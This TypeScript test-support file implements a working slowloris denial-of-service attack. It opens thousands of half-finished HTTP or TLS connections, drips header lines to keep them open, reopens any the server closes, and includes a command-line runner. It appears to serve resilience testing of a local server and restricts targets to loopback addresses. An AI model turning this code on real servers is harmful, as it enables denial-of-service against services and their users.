import { connect as connectTcp, isIP, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { pathToFileURL } from "node:url";
import { parseArgs } from "node:util";

/**
 * The slowloris attack, for tests and for re-running it by hand against a
 * local server: many connections that each send the start of a request
 * (`GET / HTTP/1.1` and a Host line) and then one more header line every
 * `dripMs`, never the blank line that ends the headers. A connection the
 * server closes is opened again, as an attacker would, until `stop()`.
 * Loopback targets only.
 *
 *   npx tsx tests/support/half-open-connections.ts --port 3000 --count 10000 [--tls] [--seconds 60]
 */

export interface HalfOpenOptions {
  host?: string;
  port: number;
  count: number;
  /** The address the connections come from (any of 127.0.0.0/8 on Linux). */
  localAddress?: string;
  /** TLS first (a proxy's https port), then the same slow request inside. */
  tls?: boolean;
  /** How often each connection sends one more header line (default 10 s). */
  dripMs?: number;
  /** Connections being opened at once (default 500): more at once overflow the listen backlog. */
  concurrency?: number;
  /** How long after the server closes a connection it is opened again (default 1 s, with up to 50% jitter). */
  reopenMs?: number;
}

export interface HalfOpenAttack {
  /** Connections open right now. */
  open(): number;
  /** Connections opened so far, the reopened ones included. */
  opened(): number;
  /** Connections the server closed (or refused) so far. */
  closedByServer(): number;
  /** Resolves once `count` connections have been opened at least once. */
  ready: Promise<void>;
  stop(): void;
}

export function startHalfOpenConnections(options: HalfOpenOptions): HalfOpenAttack {
  const host = options.host ?? "127.0.0.1";
  if (!isLoopback(host)) throw new Error(`half-open connections only to a loopback address, not ${host}`);
  const concurrency = options.concurrency ?? 500;
  const sockets = new Set<Socket>();
  let opened = 0;
  let closedByServer = 0;
  let connecting = 0;
  /** Closed connections waiting for their time to be opened again. */
  let waiting = 0;
  let wanted = options.count;
  let stopped = false;
  let markReady: () => void = () => {};
  const ready = new Promise<void>((resolve) => (markReady = resolve));

  const openOne = () => {
    connecting++;
    const connectOptions = { host, port: options.port, localAddress: options.localAddress };
    const socket: Socket = options.tls
      ? connectTls({ ...connectOptions, servername: "localhost", rejectUnauthorized: false, ALPNProtocols: ["http/1.1"] })
      : connectTcp(connectOptions);
    let settled = false;
    const settle = () => {
      if (settled) return;
      settled = true;
      connecting--;
      fill();
    };
    socket.once(options.tls ? "secureConnect" : "connect", () => {
      opened++;
      if (opened >= options.count) markReady();
      sockets.add(socket);
      socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: half-open\r\n`);
      settle();
    });
    socket.on("data", () => {}); // the server's 408 or 400, read and dropped
    socket.on("error", () => {});
    socket.once("close", () => {
      sockets.delete(socket);
      if (!stopped) {
        closedByServer++;
        waiting++;
        const reopenMs = options.reopenMs ?? 1_000;
        setTimeout(
          () => {
            waiting--;
            fill();
          },
          reopenMs * (1 + Math.random() / 2),
        ).unref();
      }
      settle();
    });
  };

  const fill = () => {
    while (!stopped && sockets.size + connecting + waiting < wanted && connecting < concurrency) openOne();
  };

  const drip = setInterval(() => {
    for (const socket of sockets) socket.write(`X-Drip-${Math.floor(Math.random() * 1e6)}: 1\r\n`);
  }, options.dripMs ?? 10_000);
  drip.unref?.();
  fill();

  return {
    open: () => sockets.size,
    opened: () => opened,
    closedByServer: () => closedByServer,
    ready,
    stop() {
      stopped = true;
      wanted = 0;
      clearInterval(drip);
      for (const socket of sockets) socket.destroy();
      sockets.clear();
    },
  };
}

function isLoopback(host: string): boolean {
  return host === "localhost" || host === "::1" || (isIP(host) === 4 && host.startsWith("127."));
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const { values } = parseArgs({
    options: {
      host: { type: "string", default: "127.0.0.1" },
      port: { type: "string" },
      count: { type: "string", default: "10000" },
      from: { type: "string" },
      tls: { type: "boolean", default: false },
      seconds: { type: "string", default: "60" },
    },
  });
  const attack = startHalfOpenConnections({
    host: values.host,
    port: Number(values.port),
    count: Number(values.count),
    localAddress: values.from,
    tls: values.tls,
  });
  const started = Date.now();
  const report = setInterval(
    () =>
      console.log(
        JSON.stringify({
          seconds: Math.round((Date.now() - started) / 1000),
          open: attack.open(),
          opened: attack.opened(),
          closedByServer: attack.closedByServer(),
        }),
      ),
    5_000,
  );
  setTimeout(
    () => {
      clearInterval(report);
      attack.stop();
    },
    Number(values.seconds) * 1000,
  );
}
